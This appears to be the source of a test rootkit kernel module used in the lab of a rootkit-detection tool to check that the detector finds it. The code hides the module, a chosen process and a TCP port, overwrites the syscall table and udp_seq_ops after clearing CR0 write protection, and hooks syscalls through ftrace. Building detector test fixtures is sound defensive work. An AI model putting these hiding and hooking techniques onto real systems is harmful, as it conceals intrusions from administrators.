// SPDX-License-Identifier: GPL-2.0
/*
 * utrk: a test rootkit for undertow's kernel lab (tests/lab/guest/test_lkm_rootkit.py).
 *
 * It does what loadable-module rootkits do, so that `undertow rootkit` can be shown to see it,
 * and is only ever loaded inside the lab's throwaway QEMU guests (built on the host against
 * Debian's linux-headers for the guest's kernel by tests/lab/modbuild.py):
 *   - it unlinks itself from the module list (gone from /proc/modules, lsmod and the module
 *     symbols of /proc/kallsyms; /sys/module/utrk stays);
 *   - it hooks getdents64 through ftrace (an IPMODIFY ftrace_ops on __x64_sys_getdents64) and
 *     drops the directory entry named after `hide_pid` (the pid vanishes from /proc's listing);
 *   - it hooks tcp4_seq_show through ftrace and skips sockets bound to `hide_port` (the socket
 *     vanishes from /proc/net/tcp; netlink sock_diag still has it);
 *   - it replaces the kill entry of sys_call_table by a pass-through of its own (on 6.9+ x86-64
 *     dispatches through a switch, not the table: the entry is then only evidence);
 *   - it replaces the show pointer of udp_seq_ops (/proc/net/udp) by a pass-through of its own;
 *   - it hooks __x64_sys_getppid through ftrace and unhooks it at once (the hook is gone, but
 *     touched_functions, 6.4+, still lists the function with the M flag).
 * Writing 1 to /sys/module/utrk/parameters/reveal puts it back on the module list so that it
 * can be removed; its exit undoes every hook.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/dirent.h>
#include <linux/uaccess.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/seq_file.h>
#include <linux/unistd.h>
#include <net/sock.h>
#include <asm/special_insns.h>
#include <asm/processor-flags.h>

static int hide_pid;
module_param(hide_pid, int, 0644);
MODULE_PARM_DESC(hide_pid, "pid whose /proc entry getdents64 drops (0: none)");
static int hide_port;
module_param(hide_port, int, 0644);
MODULE_PARM_DESC(hide_port, "local TCP port whose sockets /proc/net/tcp skips (0: none)");

typedef unsigned long (*lookup_fn)(const char *name);
static lookup_fn lookup_name;

/* kallsyms_lookup_name is not exported since 5.7: a kprobe on it gives its address. */
static int find_lookup_name(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&kp);

	if (err < 0)
		return err;
	lookup_name = (lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	return lookup_name ? 0 : -ENOENT;
}

struct hook {
	const char *name;
	void *func;
	void **orig;
	unsigned long addr;
	struct ftrace_ops ops;
	bool on;
};

static void notrace utrk_thunk(unsigned long ip, unsigned long parent_ip,
			       struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	struct hook *h = container_of(ops, struct hook, ops);
	struct pt_regs *regs = ftrace_get_regs(fregs);

	/* calls made by the hook itself reach the real function */
	if (regs && !within_module(parent_ip, THIS_MODULE))
		regs->ip = (unsigned long)h->func;
}

static int hook_on(struct hook *h)
{
	int err;

	h->addr = lookup_name(h->name);
	if (!h->addr)
		return -ENOENT;
	*h->orig = (void *)h->addr;
	h->ops.func = utrk_thunk;
	h->ops.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY;
	err = ftrace_set_filter_ip(&h->ops, h->addr, 0, 0);
	if (err)
		return err;
	err = register_ftrace_function(&h->ops);
	if (err) {
		ftrace_set_filter_ip(&h->ops, h->addr, 1, 0);
		return err;
	}
	h->on = true;
	return 0;
}

static void hook_off(struct hook *h)
{
	if (!h->on)
		return;
	unregister_ftrace_function(&h->ops);
	ftrace_set_filter_ip(&h->ops, h->addr, 1, 0);
	h->on = false;
}

/* getdents64: drop the entry named after hide_pid */
static asmlinkage long (*orig_getdents64)(const struct pt_regs *regs);

static asmlinkage long utrk_getdents64(const struct pt_regs *regs)
{
	struct linux_dirent64 __user *ubuf = (void __user *)regs->si;
	long ret = orig_getdents64(regs);
	char name[16];
	char *kbuf;
	long off = 0;

	if (ret <= 0 || hide_pid <= 0)
		return ret;
	snprintf(name, sizeof(name), "%d", hide_pid);
	kbuf = kvmalloc(ret, GFP_KERNEL);
	if (!kbuf)
		return ret;
	if (copy_from_user(kbuf, ubuf, ret))
		goto out;
	while (off < ret) {
		struct linux_dirent64 *d = (void *)(kbuf + off);

		if (d->d_reclen == 0 || off + d->d_reclen > ret)
			break;
		if (strcmp(d->d_name, name) == 0) {
			unsigned short len = d->d_reclen;

			memmove(kbuf + off, kbuf + off + len, ret - off - len);
			ret -= len;
			if (copy_to_user(ubuf, kbuf, ret))
				ret = -EFAULT;
			break;
		}
		off += d->d_reclen;
	}
out:
	kvfree(kbuf);
	return ret;
}

/* tcp4_seq_show: skip sockets bound to hide_port (full, request and time-wait sockets all
 * start with struct sock_common) */
static int (*orig_tcp4_seq_show)(struct seq_file *seq, void *v);

static int utrk_tcp4_seq_show(struct seq_file *seq, void *v)
{
	if (hide_port > 0 && v != SEQ_START_TOKEN &&
	    ((struct sock_common *)v)->skc_num == hide_port)
		return 0;
	return orig_tcp4_seq_show(seq, v);
}

/* getppid: hooked and unhooked again at load (a hook that covers its tracks) */
static asmlinkage long (*orig_getppid)(const struct pt_regs *regs);

static asmlinkage long utrk_getppid(const struct pt_regs *regs)
{
	return orig_getppid(regs);
}

static struct hook transient = { .name = "__x64_sys_getppid", .func = utrk_getppid,
				 .orig = (void **)&orig_getppid };

static struct hook hooks[] = {
	{ .name = "__x64_sys_getdents64", .func = utrk_getdents64, .orig = (void **)&orig_getdents64 },
	{ .name = "tcp4_seq_show", .func = utrk_tcp4_seq_show, .orig = (void **)&orig_tcp4_seq_show },
};

/* the syscall table's kill entry */
static unsigned long *sct;
static unsigned long orig_kill;

static asmlinkage long utrk_kill(const struct pt_regs *regs)
{
	return ((asmlinkage long (*)(const struct pt_regs *))orig_kill)(regs);
}

/* write_cr0() refuses to clear WP (CR pinning, 5.3+): rootkits write the register directly */
static inline void notrace cr0_write(unsigned long val)
{
	asm volatile("mov %0, %%cr0" : "+r"(val) : : "memory");
}

/* a word of read-only kernel data (the syscall table, a seq_operations) */
static void ro_write(unsigned long *where, unsigned long val)
{
	unsigned long cr0;

	preempt_disable();
	local_irq_disable();
	cr0 = read_cr0();
	cr0_write(cr0 & ~X86_CR0_WP);
	*where = val;
	cr0_write(cr0);
	local_irq_enable();
	preempt_enable();
}

static void sct_set(unsigned long val)
{
	ro_write(&sct[__NR_kill], val);
}

/* udp_seq_ops.show: a pass-through of the module's own */
static struct seq_operations *udp_ops;
static int (*orig_udp_show)(struct seq_file *seq, void *v);

static int utrk_udp_show(struct seq_file *seq, void *v)
{
	return orig_udp_show(seq, v);
}

static struct list_head *prev_module;

static int reveal_set(const char *val, const struct kernel_param *kp)
{
	if (prev_module) {
		list_add(&THIS_MODULE->list, prev_module);
		prev_module = NULL;
	}
	return 0;
}

static const struct kernel_param_ops reveal_ops = { .set = reveal_set };
module_param_cb(reveal, &reveal_ops, NULL, 0200);
MODULE_PARM_DESC(reveal, "write anything: back on the module list, so that it can be removed");

static int __init utrk_init(void)
{
	int i, err = find_lookup_name();

	if (err) {
		pr_err("utrk: no kallsyms_lookup_name (%d)\n", err);
		return err;
	}
	for (i = 0; i < ARRAY_SIZE(hooks); i++) {
		err = hook_on(&hooks[i]);
		if (err) {
			pr_err("utrk: cannot hook %s (%d)\n", hooks[i].name, err);
			while (--i >= 0)
				hook_off(&hooks[i]);
			return err;
		}
	}
	sct = (unsigned long *)lookup_name("sys_call_table");
	if (sct) {
		orig_kill = sct[__NR_kill];
		sct_set((unsigned long)utrk_kill);
	}
	udp_ops = (struct seq_operations *)lookup_name("udp_seq_ops");
	if (udp_ops) {
		orig_udp_show = udp_ops->show;
		ro_write((unsigned long *)&udp_ops->show, (unsigned long)utrk_udp_show);
	}
	if (hook_on(&transient) == 0)
		hook_off(&transient);
	prev_module = THIS_MODULE->list.prev;
	list_del(&THIS_MODULE->list);
	pr_info("utrk: loaded (sys_call_table %s, udp_seq_ops %s)\n", sct ? "hooked" : "not found",
		udp_ops ? "hooked" : "not found");
	return 0;
}

static void __exit utrk_exit(void)
{
	int i;

	if (sct && orig_kill)
		sct_set(orig_kill);
	if (udp_ops && orig_udp_show)
		ro_write((unsigned long *)&udp_ops->show, (unsigned long)orig_udp_show);
	for (i = ARRAY_SIZE(hooks) - 1; i >= 0; i--)
		hook_off(&hooks[i]);
}

module_init(utrk_init);
module_exit(utrk_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("undertow lab: a test rootkit (hides itself, a pid, a socket; hooks syscalls)");
